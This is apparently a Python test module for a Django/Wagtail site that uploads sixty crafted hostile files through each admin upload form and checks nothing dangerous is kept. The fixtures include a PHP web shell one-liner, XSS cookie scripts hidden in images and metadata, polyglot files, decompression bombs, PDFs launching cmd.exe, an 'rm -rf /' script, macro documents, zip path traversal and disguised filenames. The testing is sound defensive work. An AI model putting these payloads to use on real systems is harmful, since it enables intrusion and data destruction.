"""Sixty files that mean harm, and what must have become of each once it was uploaded as a picture and as a document.

Pages and programs under other names, pictures with something behind them, bombs, damaged and locked documents, macros,
names that climb out of a folder. None may be a fault of the site; what is kept runs nothing and says nothing of places.
"""

import struct
import zlib
from dataclasses import dataclass
from io import BytesIO
from pathlib import PurePath
from zipfile import ZIP_DEFLATED, ZipFile

from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from wagtail.models import UploadedFile

from pma_site.core.models import SiteDocument, SiteImage

SCRIPT = b"<script>alert(document.cookie)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
PHP = b"<?php system($_GET['c']); ?>"
PDF = b"%%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R%s>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
PDF += b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\n%s\ntrailer<</Root 1 0 R>>\n%%%%EOF"
IMAGES, DOCUMENTS = (
    ("avif", "jpg", "jpeg", "png", "webp"),
    ("csv", "docx", "ics", "ods", "odt", "pdf", "pptx", "txt", "xlsx"),
)
NEVER = (SCRIPT, b"<?php", b"alert(", b"SECRET-PLACE")


def _picture(kind, size=(40, 30), **saving):
    out = BytesIO()
    Image.new("RGB", size, "#1f5f3f").save(out, kind, **saving)
    return out.getvalue()


def _chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width, height, data=b"", more=b""):
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n" + head + more + _chunk(b"IDAT", data or zlib.compress(b"\0" * 10)) + _chunk(b"IEND", b"")
    )


def _zip(**parts):
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _office(kind="wordprocessingml.document.main+xml", **more):
    types = f'<Types><Override PartName="/word/document.xml" ContentType="application/x.{kind}"/></Types>'
    return _zip(**{"[Content_Types].xml": types, "word/document.xml": "<w/>", **more})


def _open(kind="text", **more):
    told = f"application/vnd.oasis.opendocument.{kind}"
    return _zip(**{"mimetype": told, "content.xml": "<x/>", "META-INF/manifest.xml": "<m/>", **more})


def files() -> dict[str, bytes]:
    """Return the content of each file by its name."""
    photo, exif = _picture("JPEG"), Image.Exif()
    exif[0x010E], exif[0x8298] = "SECRET-PLACE 50.43 N 2.83 E", SCRIPT.decode()
    rows = zlib.compress(b"\0" * (20_000 // 8 + 1) * 20_000)
    return {
        "page.jpg": HTML,
        "page.png": HTML,
        "page.pdf": HTML,
        "page.txt": HTML,
        "page.csv": HTML,
        "page.ics": HTML,
        "dessin.png": SVG,
        "dessin.jpg": SVG,
        "dessin.svg": SVG,
        "dessin.SVG": SVG,
        "dessin.txt": SVG,
        "dessin.webp": SVG,
        "page.html": HTML,
        "page.xhtml": HTML,
        "page.shtml": HTML,
        "page.js": SCRIPT,
        "page.php": PHP,
        "page.swf": b"FWS\x09",
        "derriere.jpg": photo + HTML,
        "derriere.png": _picture("PNG") + HTML,
        "derriere.webp": _picture("WEBP") + PHP,
        "note.jpg": _picture("JPEG", exif=exif.tobytes()),
        "note.png": _png(8, 8, zlib.compress(b"\0\0" * 8), _chunk(b"tEXt", b"a\0" + SCRIPT)),
        "commentaire.jpg": _picture("JPEG", comment=SCRIPT),
        "php.jpg": photo[:2] + b"\xff\xfe\0\x20" + PHP.ljust(30) + photo[2:],
        "anime.png": _picture("GIF"),
        "anime.jpg": _picture("GIF"),
        "bitmap.png": _picture("BMP"),
        "tiff.jpg": _picture("TIFF"),
        "coupe.jpg": photo[: len(photo) // 2],
        "coupe.png": _picture("PNG")[:60],
        "coupe.webp": _picture("WEBP")[:30],
        "vide.jpg": b"",
        "vide.pdf": b"",
        "bombe-dite.png": _png(60_000, 60_000),
        "bombe-vraie.png": _png(20_000, 20_000, rows),
        "faux.avif": b"\0\0\0\x20ftypavif" + b"\0" * 500,
        "somme.png": _picture("PNG")[:-6] + b"xxxxxx",
        "programme.pdf": PDF % (b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>", b""),
        "lance.pdf": PDF % (b"/OpenAction<</S/Launch/F(cmd.exe)>>", b""),
        "coupe.pdf": (PDF % (b"", b""))[:60],
        "elf.pdf": b"\x7fELF" + b"\0" * 200,
        "elf.txt": b"\x7fELF\0\0",
        "exe.docx": b"MZ" + b"\0" * 200,
        "nul.csv": b"a;b\0c",
        "shell.txt": b"#!/bin/sh\nrm -rf /\n",
        "macros.docx": _office(**{"word/vbaProject.bin": b"x"}),
        "macros.xlsx": _office("spreadsheetml.sheet.macroEnabled.main+xml"),
        "modele.docx": _office(
            **{"word/_rels/s.rels": '<Relationship Type="attachedTemplate" Target="http://x/e.dotm"/>'}
        ),
        "bombe.docx": _office(**{"word/media/x.bin": b"\0" * (125 * 1024 * 1024)}),
        "archive.docx": _zip(**{"META-INF/MANIFEST.MF": "x"}),
        "monte.docx": _zip(**{"../../../etc/cron.d/x": "x"}),
        "autre.xlsx": _office(),
        "script.odt": _open(**{"Basic/x.xml": "x"}),
        "ferme.odt": _open(**{"META-INF/manifest.xml": "<encryption-data/>"}),
        "tableur.odt": _open("spreadsheet"),
        "../../monte.jpg": photo,
        "double.php.jpg": photo,
        "double.jpg.php": photo,
        ".htaccess": b"AddType x .jpg",
        "\u202egpj.exe.jpg": photo,
        "nom;.html.jpg": photo,
        "x" * 250 + ".jpg": photo,
    }


@dataclass(frozen=True)
class Door:
    """A way by which the admin takes files: what it keeps, where, how it calls their fields, which kinds it allows."""

    model: type
    address: str
    allowed: tuple
    prefix: str = ""
    file: str = "file"


DOORS = (
    Door(SiteImage, "/admin/images/add/", IMAGES),
    Door(SiteImage, "/admin/images/chooser/create/", IMAGES, prefix="image-chooser-upload-"),
    Door(SiteImage, "/admin/images/multiple/add/", IMAGES, file="files[]"),
    Door(SiteDocument, "/admin/documents/add/", DOCUMENTS),
    Door(SiteDocument, "/admin/documents/chooser/create/", DOCUMENTS, prefix="document-chooser-upload-"),
    Door(SiteDocument, "/admin/documents/multiple/add/", DOCUMENTS, file="files[]"),
)


def put_in(client, door: Door, name: str, content: bytes):
    """Upload a file by a door; return its answer."""
    said = {"title": "Essai", "credit": "PMA", "collection": "1"}
    file = SimpleUploadedFile(name, content, "image/svg+xml")
    fields = {door.prefix + field: value for field, value in said.items()}
    return client.post(door.address, {**fields, door.prefix + door.file: file})


def finish(client, unfinished):
    """Fill in the form of a picture that waits for its credit, as one of several does."""
    prefix = f"uploaded-image-{unfinished.pk}-"
    said = {"title": "Essai", "credit": "PMA", "collection": "1"}
    address = f"/admin/images/multiple/create_from_uploaded_image/{unfinished.pk}/"
    return client.post(address, {prefix + field: value for field, value in said.items()})


def upload(client, name: str, content: bytes) -> list[str]:
    """Upload a file by every door of the admin; return what is wrong with what became of it."""
    wrong = []
    for door in DOORS:
        before = set(door.model.objects.values_list("pk", flat=True))
        answers = [put_in(client, door, name, content)]
        for unfinished in UploadedFile.objects.all():
            wrong += [f"{door.address} : {fault}" for fault in _faults(unfinished, door.allowed)]
            answers.append(finish(client, unfinished))
        wrong += [f"{door.address} : réponse {each.status_code}" for each in answers if each.status_code >= 500]
        for kept in door.model.objects.exclude(pk__in=before):
            wrong += [f"{door.address} : {fault}" for fault in _faults(kept, door.allowed)]
            kept.delete()
    return wrong


def _faults(kept, allowed):
    name = kept.file.name
    if PurePath(name).suffix[1:].lower() not in allowed or ".." in name or not name.isprintable():
        yield f"gardé sous le nom {name!a}"
    with default_storage.open(name) as file:
        content = file.read()
    yield from (f"garde {bad!a}" for bad in NEVER if bad in content)
    if isinstance(kept, SiteImage):
        try:
            with Image.open(BytesIO(content)) as image:
                image.load()
        except Exception as error:
            yield f"ne s’ouvre pas : {error}"
